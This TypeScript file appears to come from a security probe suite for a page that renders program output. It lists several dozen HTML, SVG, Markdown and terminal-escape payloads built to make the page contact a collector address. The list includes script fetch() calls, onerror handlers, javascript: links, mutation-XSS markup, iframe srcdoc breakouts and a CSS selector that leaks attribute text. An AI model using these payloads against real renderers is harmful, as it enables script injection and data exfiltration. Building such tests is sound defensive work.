// Results that want out: markup, pictures and text that the page shows. `as` says what Python hands over.

import type { Probe } from "../probe";

export interface Shown extends Probe {
  as: "html" | "svg" | "markdown" | "text";
  /** Pressed with the mouse once it is shown; the markup fills its frame. */
  press?: boolean;
  /** The mouse passes over it once it is shown. */
  hover?: boolean;
}

const slug = (text: string): string => text.toLowerCase().replace(/[^a-z0-9]+/g, "-");

function shown(as: Shown["as"], title: string, code: string, rest: Partial<Shown> = {}): Shown {
  return {
    id: `output/${as}/${slug(title)}`,
    group: "output",
    title: `${as}: ${title}`,
    realm: "result",
    as,
    code,
    ...rest,
  };
}

const html = (title: string, code: string, rest: Partial<Shown> = {}): Shown => shown("html", title, code, rest);

const URL_ = "{{http}}/{{label}}";
/** A host with the label: whoever looks it up is seen by the DNS sink. */
const LOOKED_UP = "http://{{dns}}:{{port}}/";
const FILL = 'style="position:fixed;inset:0;display:block;font-size:40px;width:100%;height:100%"';
/** What Markdown's own renderers would make of the probe. */
const naive = (markup: string): Partial<Shown> => ({ control: markup });

export const OUTPUT: Shown[] = [
  html("an image", `<img src="${URL_}">`),
  html("an image among candidates", `<img srcset="${URL_} 1x">`),
  html("a picture's source", `<picture><source srcset="${URL_}"><img></picture>`),
  html("an image in SVG", `<svg><image href="${URL_}" width="9" height="9"/></svg>`),
  html("an image in SVG by its old name", `<svg><image xlink:href="${URL_}" width="9" height="9"/></svg>`),
  html(
    "a filter image in SVG",
    `<svg width="9" height="9"><filter id="f"><feImage href="${URL_}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  ),
  html(
    "a foreign object in SVG",
    `<svg width="9" height="9"><foreignObject width="9" height="9"><img src="${URL_}"></foreignObject></svg>`,
  ),
  html("a style's background", `<p style="background:url(${URL_})">x</p>`),
  html("a style sheet's background", `<style>p{background:url(${URL_})}</style><p>x</p>`),
  html("a style sheet's import", `<style>@import "${URL_}.css";</style>`),
  html(
    "a style sheet's font",
    `<style>@font-face{font-family:q;src:url(${URL_}.woff)}p{font-family:q}</style><p>x</p>`,
  ),
  html("a style sheet's cursor and list image", `<style>li{list-style-image:url(${URL_})}</style><li>x</li>`),
  html("a style sheet's content", `<style>p::after{content:url(${URL_})}</style><p>x</p>`),
  html("a style sheet's image set", `<style>p{background:image-set("${URL_}" 1x)}</style><p>x</p>`),
  html(
    "a style that reads an attribute into an address",
    `<style>p[a^="s"]{background:url(${URL_})}</style><p a="secret">x</p>`,
  ),
  html("a linked style sheet", `<link rel="stylesheet" href="${URL_}.css">`),
  html("a preload", `<link rel="preload" as="image" href="${URL_}">`),
  html("a look-up ahead", `<link rel="dns-prefetch" href="http://{{dns}}:{{port}}/">`),
  html("a connection ahead", `<link rel="preconnect" href="http://{{dns}}:{{port}}/">`),
  html("meta refresh", `<meta http-equiv="refresh" content="0;url=${URL_}">`),
  html("a base address", `<base href="{{http}}/"><img src="{{label}}">`),
  html("a script", `<script>fetch("${URL_}")</script>`),
  html("a script from an address", `<script src="${URL_}.js"></script>`),
  html("a handler", `<img src="data:x" onerror="fetch('${URL_}')">`),
  html("a handler in SVG", `<svg onload="fetch('${URL_}')"></svg>`),
  html("a details element's handler", `<details open ontoggle="fetch('${URL_}')">x</details>`),
  html("a nested frame", `<iframe src="${URL_}"></iframe>`),
  html("a nested frame's own document", `<iframe srcdoc="<img src='${URL_}'>"></iframe>`),
  html("a nested frame of javascript:", `<iframe src="javascript:fetch('${URL_}')"></iframe>`),
  html("an object", `<object data="${URL_}"></object>`),
  html("an embedded plug-in", `<embed src="${URL_}">`),
  html("a video and its poster", `<video src="${URL_}" poster="${URL_}" preload="auto"></video>`),
  html("an audio", `<audio src="${URL_}" preload="auto"></audio>`),
  html("an image button", `<input type="image" src="${URL_}">`),
  html("a table's old background", `<table background="${URL_}"><tr><td>x</td></tr></table>`),
  html("markup that breaks out of its frame's document", `</body></html><img src="${URL_}">`),
  html("markup that breaks out of the srcdoc attribute", `"></iframe><img src="${URL_}"><iframe srcdoc="`),
  html(
    "mutating markup",
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${URL_}&gt;"><img src="${URL_}">`,
  ),
  html(
    "a template's content",
    `<div><template shadowrootmode="open"><img src="${URL_}"></template></div>`,
    naive(`<img src="${URL_}">`),
  ),
  html(
    "a noscript's content",
    `<noscript><p title="</noscript><img src='${URL_}'>"></noscript>`,
    naive(`<img src="${URL_}">`),
  ),
  html("an XML island", `<xml><image src="${URL_}"/></xml><image src="${URL_}">`),
  html(
    "the page's title through its parent",
    `<img src="data:x" onerror="top.document.title='{{label}}';parent.document.title='{{label}}'">`,
  ),
  html("a link, pressed", `<a href="${URL_}" ${FILL}>press</a>`, { press: true }),
  html("a link into the page, pressed", `<a href="${URL_}" target="_top" ${FILL}>press</a>`, { press: true }),
  html("a link into a new window, pressed", `<a href="${URL_}" target="_blank" ${FILL}>press</a>`, { press: true }),
  html("a link with a ping, pressed", `<a href="#x" ping="${URL_}" ${FILL}>press</a>`, { press: true }),
  html("a download, pressed", `<a href="${URL_}" download="x" ${FILL}>press</a>`, { press: true }),
  html("a form, pressed", `<form action="${URL_}" method="post"><button ${FILL}>press</button></form>`, {
    press: true,
  }),
  html(
    "a form by the button's own address, pressed",
    `<form><button formaction="${URL_}" ${FILL}>press</button></form>`,
    { press: true },
  ),
  html(
    "an image map, pressed",
    `<img usemap="#m" ${FILL} src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name="m"><area href="${URL_}" shape="default"></map>`,
    { press: true },
  ),
  html("a link in SVG, pressed", `<svg ${FILL}><a href="${URL_}"><rect width="2000" height="2000"/></a></svg>`, {
    press: true,
  }),
  html("a link of javascript:, pressed", `<a href="javascript:fetch('${URL_}')" ${FILL}>press</a>`, { press: true }),
  shown(
    "svg",
    "an image within",
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${URL_}" width="9" height="9"/></svg>`,
  ),
  shown(
    "svg",
    "a script within",
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>fetch("${URL_}")</script></svg>`,
  ),
  shown(
    "svg",
    "a style sheet within",
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><style>@import "${URL_}.css";</style></svg>`,
  ),
  shown(
    "svg",
    "a foreign object within",
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${URL_}"/></foreignObject></svg>`,
  ),
  shown(
    "svg",
    "a handler within",
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="fetch('${URL_}')"></svg>`,
  ),
  shown("markdown", "an image", `![x](${URL_})`, naive(`<img src="${URL_}">`)),
  ...["[x]({{to}})", "# [x]({{to}})", "* [x]({{to}})", "> [x]({{to}})", "**[x]({{to}})**", "{{to}}", "<{{to}}>"].map(
    (source) =>
      shown("markdown", `${source.replace("{{to}}", "address")} under the mouse`, source.replace("{{to}}", LOOKED_UP), {
        hover: true,
        control: `<a href="${LOOKED_UP}" ${FILL}>press</a>`,
      }),
  ),
  html("a link under the mouse", `<a href="${LOOKED_UP}" ${FILL}>x</a>`, { hover: true }),
  html(
    "a link in SVG under the mouse",
    `<svg ${FILL}><a href="${LOOKED_UP}"><rect width="2000" height="2000"/></a></svg>`,
    {
      hover: true,
      control: `<a href="${LOOKED_UP}" ${FILL}>press</a>`,
    },
  ),
  shown("markdown", "raw markup", `<img src="${URL_}">`),
  shown("markdown", "a link of javascript:", `[x](javascript:fetch('${URL_}'))<img src="${URL_}">`),
  shown("markdown", "an address by reference", `![x][1]\n\n[1]: ${URL_}`, naive(`<img src="${URL_}">`)),
  shown("markdown", "an address on its own", `<${URL_}> <img src="${URL_}">`),
  shown("text", "markup in printed text", `<img src="${URL_}" onerror="fetch('${URL_}')">`),
  shown("text", "markup between colours", `\u001b[31m<img src="${URL_}">\u001b[0m`),
  shown("text", "a terminal's link", `\u001b]8;;${URL_}\u0007<img src="${URL_}">\u001b]8;;\u0007`),
  shown(
    "text",
    "a terminal's title",
    `\u001b]0;{{label}}\u0007\u001b]2;{{label}}\u0007x`,
    naive(`<img src="x" onerror="top.document.title='{{label}}'">`),
  ),
  shown("text", "a colour that is a style", `\u001b[38;2;0;0;0;url(${URL_})m<img src="${URL_}">\u001b[0m`),
  shown("text", "letters that turn direction", `\u202e<img src="${URL_}">\u202c\u2066x\u2069`),
];
